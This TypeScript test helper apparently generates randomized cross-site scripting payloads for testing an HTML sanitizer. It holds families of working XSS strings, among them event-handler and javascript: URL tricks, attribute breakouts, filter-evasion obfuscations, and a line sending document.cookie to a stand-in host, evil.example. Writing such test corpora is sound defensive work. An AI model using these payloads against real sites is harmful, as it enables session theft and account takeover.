import { Maker, seeded, type Sample } from "./samples.test-helper";

const parts: Record<string, (m: Maker) => string> = {
  js: (m) => m.one(["alert(1)", "alert(document.cookie)", "confirm(1)", "prompt`1`", "eval(name)", "fetch('//evil.example/'+document.cookie)", "import('//evil.example')", "window['al'+'ert'](1)", "location='//evil.example'", "top.alert(1)", "(alert)(1)", "alert&lpar;1&rpar;", "setTimeout`alert\\x281\\x29`"]),
  plain: (m) => m.one(["alert(1)", "alert(document.domain)", "confirm(1)", "prompt(1)", "eval(atob('YWxlcnQoMSk='))", "alert(String.fromCharCode(88,83,83))", "alert`1`"]),
  event: (m) => m.one(["onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onwheel", "oncopy", "onscrollend", "onbeforetoggle", "onstart", "ondrag"]),
  tag: (m) => m.one(["img", "svg", "body", "input", "details", "video", "audio", "div", "a", "button", "x", "marquee", "select", "textarea", "p", "custom-tag"]),
  gap: (m) => m.one([" ", " ", " ", "/", "\n", "\t", "\f", "//", " / ", "\r\n"]),
  q: (m) => m.one(['"', "'", ""]),
  scheme: (m) => m.one(["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "&#x6a;avascript:", "javascript&colon;", " javascript:", "\u0001javascript:", "javascript&#58;", "java&Tab;script:", "vbscript:"]),
  /** Without blanks, for values without quotes. */
  solid: (m) => m.one(["javascript:", "JaVaScRiPt:", "&#106;avascript:", "&#x6a;avascript:", "javascript&colon;", "javascript&#58;", "java&Tab;script:", "vbscript:"]),
  url: (m) => m.one(["//evil.example/x.js", "https://evil.example", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4="]),
  w: (m) => m.one(["x", "test", "1", "foo", "search"]),
};

const families: Record<string, string[]> = {
  script: ["<script>{plain}</script>", "<script{gap}src={q}{url}{q}></script>", "<script>{plain}", "</script><script>{plain}</script>", "<script x>{plain}</script x>", "<svg><script>{plain}</script>", "{w}<script>{plain}//", "<scr<script>ipt>{plain}</scr</script>ipt>"],
  event: ["<{tag}{gap}{event}={js}>", "<{tag}{gap}{event}=\"{js}\">", "<{tag} id={w}{gap}{event} = '{js}' autofocus>", "<{tag}{gap}src=x{gap}{event}={plain}//", "<{tag} {w}='a>b' {event}=\"{plain}\">", "<{tag}{gap}tabindex=1 {event}={plain}>{w}</{tag}>"],
  "script URL": ["<a href=\"{scheme}{js}\">{w}</a>", "<a href={solid}{plain}>{w}", "<form action='{scheme}{plain}'><input type=submit>", "<button formaction=\"{scheme}{plain}\">{w}</button>", "<svg><a xlink:href=\"{scheme}{plain}\"><text>{w}</text></a>", "<iframe src={q}{solid}alert(1){q}>", "<input type=image src=\"{scheme}{plain}\">", "<td background=\"{scheme}{plain}\">", "<a href=\"data:text/html,<script>{plain}</script>\">{w}</a>"],
  "bare URL": ["javascript:{plain}", "javascript:alert(1)//{w}", "JAVASCRIPT:{plain}", "java\tscript:{plain}", "data:text/html,<script>{plain}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)"],
  tag: ["<iframe src={q}{url}{q}></iframe>", "<object data={q}{url}{q}></object>", "<embed src={url}>", "<link rel=stylesheet href={url}>", "<meta http-equiv=refresh content=\"0;url={url}\">", "<base href={url}>", "<style>@import '{url}';</style>", "<applet code=x>", "<math href=\"javascript:{plain}\">{w}</math>", "<frameset onload={plain}>", "<svg><animate attributeName=href values=javascript:{plain} /></svg>", "<svg><set attributeName=onmouseover to={plain}>", "<isindex action=javascript:{plain}>", "<portal src={url}>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">{plain}</x:script>"],
  "attribute breakout": ["\"{gap}{event}={plain}{gap}x=\"", "'{gap}{event}='{plain}", "{w}\" {event}=\"{plain}", "{w}' {event}={plain} '", "\" autofocus {event}=\"{plain}", "` {event}={plain} `", "\"><{tag} {event}={plain}>", "'><script>{plain}</script>", "{w}\"><svg/onload={plain}>", "\" style=\"width:expression({plain})"],
  "unquoted attribute": ["{w} {event}={plain}", "{w} {event}={plain} autofocus", "{event}={plain}", "1 style=x:expression({plain})", "{w} autofocus onfocus={plain}"],
  style: ["<div style=\"width:expression({plain})\">", "<{tag} style=\"background:url(javascript:{plain})\">", "<p style=behavior:url(#default#time2)>", "<style>*{background:url('javascript:{plain}')}</style>"],
  comment: ["<!--[if gte IE 4]><script>{plain}</script><![endif]-->", "<!--><{tag} {event}={plain}>-->", "--><script>{plain}</script>", "<!-- --!><img src=x {event}={plain}>", "<![CDATA[<{tag} {event}={plain}>]]>", "<?xml-stylesheet href=\"javascript:{plain}\"?>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"{url}\">]>", "</title><img src=x {event}={plain}>", "</textarea><script>{plain}</script>", "<noscript><p title=\"</noscript><img src=x onerror={plain}>\">"],
  template: ["{{constructor.constructor('{plain}')()}}", "${{plain}}", "#{{plain}}", "';{plain}//", "\";{plain};//", "'-{plain}-'", "\"+{plain}+\"", "\\';{plain}//", "');{plain};//", "'}{plain}{'", "</script><svg onload={plain}>", "{{$on.constructor('{plain}')()}}"],
  obfuscated: ["<\0script>{plain}</script>", "<scr\0ipt>{plain}</script>", "<IMG SRC=x {event}\n=\n\"{plain}\">", "<img \"\"\"><script>{plain}</script>\">", "<svg/onload\t=\t{plain}>", "<ImG/sRc=x/{event}={plain}>", "<<script>{plain}//<</script>", "<a/href='javascript:{plain}'>x", "<img src='x'{event}={plain}>", "<svg><script/href={url} />", "%\"><svg onload={plain}>", "<body\u000b{event}={plain}>".replace("\u000b", "\f")],
};

/** `count` attacks. */
export function htmlAttacks(seed: number, count: number): Sample[] {
  const m = new Maker(seeded(seed));
  return Array.from({ length: count }, () => {
    const family = m.one(Object.keys(families));
    const value = m.fill(m.one(families[family]), parts);
    // Names of tags and attributes in any case; not the scripts, which would no longer run.
    return { family, value: m.chance(0.2) ? value.replace(/<\/?[a-z]+|\bon[a-z]+(?==)/g, (name) => [...name].map((char) => (m.chance(0.5) ? char.toUpperCase() : char)).join("")) : value };
  });
}
